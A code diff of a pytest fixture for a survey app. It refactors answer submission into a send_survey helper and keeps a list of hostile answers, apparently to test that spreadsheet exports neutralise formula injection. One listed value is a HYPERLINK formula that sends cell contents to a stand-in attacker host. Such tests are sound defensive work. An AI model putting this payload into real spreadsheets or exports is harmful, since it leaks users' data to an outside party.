@@ -7,7 +7,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from tests.fixtures import csrf_token, idempotency_key, sign_in
+from tests.fixtures import send_survey, sign_in
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -27,17 +27,14 @@ def survey(make_survey, client):
     text = survey.question_ids["text"]
     yes = survey.option_ids["single"][0]
     for answer in HOSTILE:
-        html = client.get(survey.url).text
-        response = client.post(
+        response = send_survey(
+            client,
             survey.url,
-            data={
-                "_csrf_token": csrf_token(html),
-                "idempotency_key": idempotency_key(html),
+            {
                 f"q{single}": str(yes),
                 f"q{scale}": str(survey.option_ids["scale"][2]),
                 f"q{text}": answer,
             },
-            follow_redirects=False,
         )
         assert response.status_code == 303
     return survey
